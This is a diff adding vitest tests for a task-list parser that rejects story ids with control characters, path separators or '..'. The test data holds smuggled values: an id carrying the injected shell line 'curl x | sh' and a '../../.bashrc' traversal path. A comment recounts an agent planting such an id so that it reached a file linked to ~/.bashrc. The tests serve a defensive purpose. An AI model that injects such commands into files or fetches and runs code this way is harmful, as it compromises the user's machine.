@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { RalphError } from '../util/errors.js';
+import { hasControlCharacter } from '../util/control-chars.js';
 import { parseTaskList } from './read.js';
 
 function failure(text: string, file = 'prd.json'): RalphError {
@@ -158,5 +159,62 @@ describe('dependsOn that can never be met', () => {
       { id: 'US-003', dependsOn: ['US-001', 'US-002'] },
     ]);
     expect(parseTaskList(text, 'prd.json').taskList.stories).toHaveLength(3);
+  });
+
+  // The measured attack: an agent added a story whose id carries a shell line, which ralph's
+  // restore note then appended to progress.txt (a link to ~/.bashrc).
+  it('refuses a story id with a newline, at its line and column, quoting it escaped', () => {
+    const text = '{"userStories": [\n  {"id": "US-1"},\n  {"id": "US-2\\ncurl x | sh"}\n]}';
+    const error = failure(text);
+    expect(error.code).toBe('INVALID_TASK_LIST');
+    expect(error.location).toEqual({
+      file: 'prd.json',
+      line: 3,
+      column: 10,
+      field: 'userStories[1].id',
+    });
+    expect(error.message).toBe(
+      'prd.json:3:10: userStories[1].id "US-2\\ncurl x | sh" contains a control character (a newline, U+000A)',
+    );
+    expect(error.message).not.toContain('\n');
+    expect(error.hint).toContain('use letters, digits, "-", "_" and single dots');
+    expect(error.hint).toContain('ralph did not change the file');
+  });
+
+  it.each([
+    ['a carriage return', '"US-1\\r"', 'a control character (a carriage return, U+000D)'],
+    ['ESC', '"US-\\u001b[2J1"', 'a control character (ESC, U+001B)'],
+    ['NUL', '"US-\\u00001"', 'a control character (NUL, U+0000)'],
+    ['a tab', '"US-\\t1"', 'a control character (a tab, U+0009)'],
+    ['DEL', '"US-\\u007f"', 'a control character (U+007F)'],
+    ['a slash', '"../../.bashrc"', 'a path separator (/ or \\)'],
+    ['a backslash', '"US\\\\1"', 'a path separator (/ or \\)'],
+    ['..', '".."', 'contains ".."'],
+    ['blank', '" "', 'is blank'],
+  ])('refuses a story id with %s', (_what, id, problem) => {
+    const error = failure(`{"features": [{"id": ${id}, "passes": false}]}`);
+    expect(error.code).toBe('INVALID_TASK_LIST');
+    expect(error.location?.field).toBe('features[0].id');
+    expect(error.message).toContain(problem);
+    expect(hasControlCharacter(error.message)).toBe(false);
+  });
+
+  it('reports the unsafe id before a dependency that quotes it', () => {
+    const error = failure(
+      '{"userStories": [{"id": "A\\nB"}, {"id": "C", "dependsOn": ["A\\nB", "D"]}]}',
+    );
+    expect(error.location?.field).toBe('userStories[0].id');
+    expect(error.message).not.toContain('\n');
+  });
+
+  it('accepts ordinary ids: decimals, numbers, slugs, non-ASCII letters', () => {
+    const text =
+      '{"features": [{"id": "STORY-002.1"}, {"id": 7}, {"id": "docs_v2-final"}, {"id": "Über-1"}]}';
+    expect(parseTaskList(text, 'f.json').taskList.stories.map((each) => each.id)).toEqual([
+      'STORY-002.1',
+      '7',
+      'docs_v2-final',
+      'Über-1',
+    ]);
   });
 });
